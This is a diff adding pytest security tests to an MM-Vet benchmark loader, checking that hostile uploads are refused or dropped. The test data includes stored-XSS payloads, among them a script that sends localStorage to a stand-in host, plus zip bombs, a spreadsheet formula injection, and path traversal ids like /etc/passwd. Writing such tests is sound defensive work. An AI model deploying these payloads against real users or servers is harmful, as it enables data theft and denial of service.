@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import io
 import json
+import os
 import shutil
 import socket
 import tempfile
@@ -540,3 +541,168 @@ def test_unsafe_image_names_are_dropped(tmp_path, v1_metadata):
     assert bench.samples["v1_0"].image is None and bench.image_path("v1_0") is None
     assert bench.samples["v1_1"].image is None
     assert bench.image_path("v1_5") is not None
+
+
+# ------------------------------------------------------------------ hostile uploads (issue 9, rows 1, 4, 6, 13)
+from mmvet_core.archive import ArchiveLimits  # noqa: E402
+from mmvet_core.housekeeping import FolderPolicy  # noqa: E402
+from mmvet_core.sources import LoadLimits, check_hub_id  # noqa: E402
+
+
+def test_zip_extracts_only_the_metadata_and_the_images_it_names(tmp_path, v1_metadata):
+    """Stored XSS: an HTML/SVG page in the archive (or disguised under an image's name) is never written."""
+    zpath = tmp_path / "mm-vet.zip"
+    with zipfile.ZipFile(zpath, "w") as zf:
+        zf.write(V1_METADATA, "mm-vet/mm-vet.json")
+        zf.writestr(f"mm-vet/images/{v1_metadata['v1_0']['imagename']}", tiny_png())
+        zf.writestr(f"mm-vet/images/{v1_metadata['v1_1']['imagename']}", b"<html><script>alert(1)</script>")
+        zf.writestr("mm-vet/images/evil.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
+        zf.writestr("mm-vet/pwn.html", b"<script>fetch('//x/'+localStorage.a)</script>")
+    work = tmp_path / "uploads"
+    bench = load_benchmark(zpath, work_dir=work)
+    written = sorted(str(p.relative_to(work)) for p in work.rglob("*") if p.is_file())
+    folder = bench.images_dir.parent.name
+    assert folder.startswith("zip-")
+    assert written == [f"{folder}/.complete", f"{folder}/images/{v1_metadata['v1_0']['imagename']}",
+                       f"{folder}/mm-vet.json"]
+    assert bench.image_path("v1_0") is not None and bench.image_path("v1_1") is None
+
+
+def test_zip_is_extracted_once_per_content(tmp_path, v1_metadata):
+    zpath = make_official_zip(tmp_path / "mm-vet.zip", v1_metadata)
+    work = tmp_path / "uploads"
+    first = load_benchmark(zpath, work_dir=work)
+    marker = first.images_dir / "marker"
+    marker.write_text("still here")                     # a second extraction would start from a fresh folder
+    copy = tmp_path / "again.zip"
+    shutil.copy(zpath, copy)                            # same content, other name
+    second = load_benchmark(copy, work_dir=work)
+    assert second.images_dir == first.images_dir and marker.exists()
+    assert [p.name for p in work.iterdir()] == [first.images_dir.parent.name]
+
+
+def make_zero_bomb(path: Path, entries: int, size: int = 1_000_000) -> Path:
+    """The audit's archive: many entries of zeros (2.2 MB for 1,990 x 1 MB)."""
+    zeros = bytes(size)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        zf.write(V1_METADATA, "mm-vet/mm-vet.json")
+        for i in range(entries):
+            zf.writestr(f"mm-vet/pad/{i:05d}.bin", zeros)
+    return path
+
+
+def test_zero_padding_zip_is_refused_before_writing_anything(tmp_path):
+    zpath = make_zero_bomb(tmp_path / "mm-vet.zip", 300)                   # 300 MB of zeros in ~0.3 MB
+    work = tmp_path / "uploads"
+    limits = LoadLimits(archive=ArchiveLimits(max_total_uncompressed=200_000_000))
+    with pytest.raises(BenchmarkError, match="more than the allowed 200.0 MB"):
+        load_benchmark(zpath, work_dir=work, limits=limits)
+    assert not work.exists() or not any(work.iterdir())
+
+
+def test_padding_is_never_extracted_even_under_the_cap(tmp_path):
+    zpath = make_zero_bomb(tmp_path / "mm-vet.zip", 20)
+    work = tmp_path / "uploads"
+    load_benchmark(zpath, work_dir=work)
+    written = sum(p.stat().st_size for p in work.rglob("*") if p.is_file())
+    assert written < 2 * V1_METADATA.stat().st_size                            # the metadata only, not 20 MB
+
+
+def test_upload_folder_total_is_capped(tmp_path, v1_metadata):
+    work = tmp_path / "uploads"
+    old = work / "zip-old"
+    old.mkdir(parents=True)
+    (old / "big.bin").write_bytes(bytes(900_000))
+    os.utime(old, (time.time() - 3600, time.time() - 3600))
+    fresh = work / "zip-fresh"                                                  # in use right now: kept
+    fresh.mkdir()
+    (fresh / "big.bin").write_bytes(bytes(900_000))
+    policy = FolderPolicy(max_bytes=1_500_000, min_age_s=60)
+    zpath = make_official_zip(tmp_path / "mm-vet.zip", v1_metadata)
+    bench = load_benchmark(zpath, work_dir=work, limits=LoadLimits(folder=policy))
+    assert not old.exists() and fresh.exists() and bench.images_dir.is_dir()    # the oldest made room
+    (fresh / "big.bin").write_bytes(bytes(1_400_000))
+    other = tmp_path / "other.zip"
+    with zipfile.ZipFile(other, "w") as zf:
+        zf.write(V1_METADATA, "mm-vet.json")
+    with pytest.raises(BenchmarkError, match="space for uploaded benchmarks is full"):
+        load_benchmark(other, work_dir=work, limits=LoadLimits(folder=policy))
+
+
+def test_benchmark_size_is_capped(tmp_path):
+    path = tmp_path / "huge.json"
+    path.write_text(json.dumps({f"v1_{i}": {"question": "q", "answer": "a", "capability": ["rec"]}
+                                for i in range(3000)}))
+    with pytest.raises(BenchmarkError, match="3,000 samples; at most 2,000"):
+        load_benchmark(path, limits=LoadLimits(max_samples=2000))
+    assert len(load_benchmark(path)) == 3000                                    # the CLI's default: no cap
+
+
+@pytest.mark.parametrize("code", ["=HYPERLINK(\"http://x\")", "<img src=x>", "Rec", "../x", "a b"])
+def test_capability_codes_are_restricted(tmp_path, code):
+    path = tmp_path / "bench.json"
+    path.write_text(json.dumps({"v1_0": {"question": "q", "answer": "a", "capability": ["rec", code]}}))
+    with pytest.raises(BenchmarkError, match="capability code .* is not allowed"):
+        load_benchmark(path)
+
+
+@pytest.mark.parametrize("local", ["assets/examples", "data/uploads", "data/x"])
+def test_hub_field_refuses_local_folders(tmp_path, monkeypatch, local):
+    """datasets.load_dataset("assets/examples") loads the server's own folder: such ids never reach it."""
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "assets" / "examples").mkdir(parents=True)
+    (tmp_path / "data" / "uploads").mkdir(parents=True)
+    with pytest.raises(BenchmarkError, match="names a folder on this server"):
+        load_benchmark(f"hf:{local}", hf_offline=False)
+
+
+@pytest.mark.parametrize("bad", ["/etc/passwd", "./assets/examples", "../x/y", "a/../b", "~/x", "a/b/c", "a--b/c",
+                                 "-a/b", "a/b.", "file:///etc/x", "a\\b/c", "a/" + "b" * 120])
+def test_hub_field_refuses_malformed_ids(bad):
+    with pytest.raises(BenchmarkError, match="not a Hugging Face dataset id"):
+        check_hub_id(bad)
+    assert check_hub_id(" lmms-lab/MMVet ") == "lmms-lab/MMVet"
+
+
+@pytest.fixture
+def fake_hub(no_hub, monkeypatch):
+    """A hub API on 127.0.0.1 that reports a dataset's files and sizes (and logs every request)."""
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    state = {"size": 10_000_000_000, "requests": []}
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802
+            state["requests"].append(self.path)
+            body = json.dumps({"id": "someone/huge", "siblings": [
+                {"rfilename": "data/test-0.parquet", "size": state["size"]},
+                {"rfilename": "README.md", "size": 1000}]}).encode()
+            self.send_response(200)
+            self.send_header("content-type", "application/json")
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    monkeypatch.setenv("HF_ENDPOINT", f"http://127.0.0.1:{server.server_address[1]}")
+    for var in ("HTTP_PROXY", "http_proxy"):
+        monkeypatch.delenv(var, raising=False)
+    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
+    yield state
+    server.shutdown()
+
+
+def test_hub_dataset_too_large_is_refused_before_any_download(fake_hub):
+    with pytest.raises(BenchmarkError, match=r"10,000 MB, more than the 500 MB accepted here; nothing was "):
+        load_benchmark("hf:someone/huge", limits=LoadLimits(hub_max_bytes=500_000_000))
+    assert fake_hub["requests"] == ["/api/datasets/someone/huge?blobs=true"]   # the size question only
+
+
+def test_hub_size_check_fails_closed_when_the_hub_cannot_say(no_hub, monkeypatch):
+    monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:9")                   # nothing listens there
+    with pytest.raises(BenchmarkError, match="could not be reached to check the dataset's size"):
+        load_benchmark("hf:someone/huge", limits=LoadLimits(hub_max_bytes=500_000_000))
